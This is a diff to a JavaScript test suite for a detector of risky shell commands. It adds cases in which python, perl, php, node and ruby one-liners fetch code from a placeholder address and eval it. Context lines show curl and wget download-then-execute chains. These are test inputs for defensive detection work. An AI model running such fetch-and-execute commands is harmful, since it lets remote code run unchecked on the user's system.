@@ -67,6 +67,16 @@ describe('tactic rules', () => {
     expect(run(sh('curl -sL https://h.example.invalid/a.tgz | tar xz -C /opt'))).toEqual([]);
     expect(run(sh('`curl -s http://198.51.100.1/x`'))).toEqual(['PCL-TTP-002:high']);
   });
+  it('PCL-TTP-002: interpreters fetching code and running it inline; fetching or running alone is fine', () => {
+    expect(run({ cmd: ['python3', '-c', "import urllib.request as u; exec(u.urlopen('http://198.51.100.1/p').read())"] })).toEqual(['PCL-TTP-002:high']);
+    expect(run({ cmd: ['perl', '-e', 'use LWP::Simple; eval(get("http://198.51.100.1/p"))'] })).toEqual(['PCL-TTP-002:high']);
+    expect(run({ cmd: ['php', '-r', 'eval(file_get_contents("http://198.51.100.1/p"));'] })).toEqual(['PCL-TTP-002:high']);
+    expect(run({ cmd: ['node', '-e', "require('http').get('http://198.51.100.1/p', (r) => { let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)); })"] }))
+      .toEqual(['PCL-TTP-002:high']);
+    expect(run({ cmd: ['ruby', '-e', 'require "open-uri"; eval(URI.open("http://198.51.100.1/r").read)'] })).toEqual(['PCL-TTP-002:high']);
+    expect(run({ cmd: ['python3', '-c', 'import requests; print(requests.get("http://h.example.invalid/health").status_code)'] })).toEqual([]);
+    expect(run({ cmd: ['python3', '-c', 'import os; os.system("date")'] })).toEqual([]);
+  });
   it('PCL-TTP-003: run high, chmod only medium, python downloader', () => {
     expect(run(sh('wget -P /tmp http://198.51.100.1/a; chmod +x /tmp/a'))).toEqual(['PCL-TTP-003:medium']);
     expect(run(sh('curl http://198.51.100.1/b > /tmp/b; sh /tmp/b'))).toEqual(['PCL-TTP-003:high']);
